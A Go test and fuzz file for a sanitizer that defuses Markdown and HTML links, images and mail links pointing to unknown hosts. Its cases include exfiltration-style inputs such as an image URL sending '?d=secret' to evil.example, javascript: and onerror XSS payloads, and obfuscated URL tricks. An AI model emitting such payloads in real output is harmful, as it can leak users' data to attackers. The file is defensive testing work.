package addressee_test

import (
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"steward/internal/tool/addressee"
)

func knowing(t testing.TB, instructions string) *addressee.Known {
	t.Helper()
	k, err := addressee.Allow(nil)
	require.NoError(t, err)
	return k.With(instructions, nil)
}

func TestInert(t *testing.T) {
	t.Parallel()
	known := knowing(t, "use https://known.test and boss@known.test")
	for _, tc := range []struct{ text, want string }{
		{"plain text, 3 < 4, a.b", "plain text, 3 < 4, a.b"},
		{"[doc](https://known.test/a) ![p](https://known.test/p.png)", "[doc](https://known.test/a) ![p](https://known.test/p.png)"},
		{"[top](#top) [file](a/b.md)", "[top](#top) [file](a/b.md)"},
		{"![p](https://evil.example/x.png?d=secret)", "p (evil dot example) "},
		{"[doc](https://evil.example \"title\")", "doc (evil dot example) "},
		{"[![p](https://evil.example/p)](https://evil2.example/l)", "p (evil dot example)  (evil2 dot example) "},
		{"[x](<https://evil.example/a b>)", "x (evil dot example) "},
		{"[x](javascript:alert(1))", "x (no host) "},
		{"[x](data:text/html;base64,AAAA)", "x (no host) "},
		{"[x](https&colon;//evil.example)", "x (evil dot example) "},
		{"[x](https:\\/\\/evil.example)", "x (evil dot example) "},
		{"[x](//evil.example/y)", "x (evil dot example) "},
		{"[x](/\\evil.example/y)", "x (evil dot example) "},
		{"[x](https://known.test@evil.example/)", "x (evil dot example) "},
		{"[x](https://known.test/?u=https://evil.example)", "x (evil dot example) "},
		{"[x][1]\n\n[1]: https://evil.example/y", "[x][1]\n\n[1] (evil dot example) "},
		{"see https://evil.example/x?y=z.", "see  (evil dot example) ."},
		{"see www.evil.example", "see  (www dot evil dot example) "},
		{"see https://known.test/x", "see https://known.test/x"},
		{"<https://evil.example/x>", " (evil dot example) "},
		{"<https://known.test/x>", "<https://known.test/x>"},
		{"<img src=\"https://evil.example/x\">", " (evil dot example) "},
		{"<img src=x onerror=alert(1)>", " "},
		{"<a href=\"https://known.test/\">k</a> <b>b</b>", "<a href=\"https://known.test/\">k</a> <b>b</b>"},
		{"<a href=\"https://known.test/\" onclick=\"x\">k</a>", " k</a>"},
		{"<img alt=\">\" src=//evil.example>", " "},
		{"<img src=//evil.example", "< img src=//evil.example"},
		{"<b x=1>img src=//evil.example>", " img src=//evil.example>"},
		{"<<b x=1>img src=//evil.example>", "< img src=//evil.example>"},
		{"[w](mailto:thief@evil.example?body=x)", "w (thief at evil dot example) "},
		{"[w](mailto:boss@known.test)", "[w](mailto:boss@known.test)"},
		{"mailto:thief@evil.example", " (thief at evil dot example) "},
		{"from thief@evil.example", "from thief@evil.example"},
	} {
		require.Equal(t, tc.want, addressee.Inert(tc.text, known), "%q", tc.text)
	}
}

var (
	anchored = regexp.MustCompile(`\]\(\s*<?([^)>\s]*)|\]:\s*<?([^>\s]*)|(?i:href|src|style|action|data|poster|srcset)\s*=\s*["']?([^"'>]*)`)
	bare     = regexp.MustCompile(`(?i)(?:[a-z][a-z0-9+.-]*:)[/\\]{2,}[\pL\pN][^\s/\\?#<>"]*|www\.[\pL\pN][^\s/]*`)
	away     = regexp.MustCompile(`^(?:https?|ftp|wss?|javascript|data):|^//`)
	inTag    = regexp.MustCompile(`<[A-Za-z][^<>]*\s[^<>]*>`)
)

// No reader of Markdown or HTML finds its way out to an unknown host, however the text is made.
func FuzzInert(f *testing.F) {
	for _, s := range []string{
		"![p](https://evil.example/x)", "[![a](//e.example)](https://f.example)", "[a]: <https:\t//evil.example>", "<img src='x' onerror=y>",
		"[x](https&colon;//evil.example)", "<a href=\"https://known.test@evil.example\">", "]](https://evil.example)(", "https:/\\evil.example",
		"www.evil.example", "<<b x>img src=//evil.example>", "[x]https://evil.example", "https:evil.example", "mailto:a@b.example", "hthttps://evil.exampletps://evil.example",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		known := knowing(t, "https://known.test")
		out := addressee.Inert(text, known)
		require.Equal(t, out, addressee.Inert(out, known), "once is enough")
		for _, m := range bare.FindAllString(out, -1) {
			require.True(t, strings.Contains(strings.ToLower(m), "known.test") || strings.HasPrefix(strings.ToLower(m), "file:"), "%q in %q", m, out)
		}
		for _, m := range anchored.FindAllStringSubmatch(out, -1) {
			to := strings.ToLower(strings.ReplaceAll(html.UnescapeString(m[1]+m[2]), `\`, ""))
			require.False(t, away.MatchString(to) && !strings.Contains(to, "known.test"), "%q in %q", m[0], out)
		}
		for _, tag := range inTag.FindAllString(out, -1) {
			require.Regexp(t, `^(?i)<(a|img|[a-z][a-z0-9]*\s*/?>$)`, tag)
		}
	})
}
